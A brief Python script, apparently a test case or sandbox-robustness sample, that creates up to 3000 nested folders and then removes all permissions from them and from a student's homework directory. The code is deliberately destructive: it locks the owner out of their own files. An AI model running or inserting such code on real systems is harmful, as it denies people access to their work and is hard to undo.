"""Makes folders within folders, and makes them unreadable."""
import os

try:
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass
os.chmod("/home/student/homework/d", 0)
os.chmod("/home/student/homework", 0)
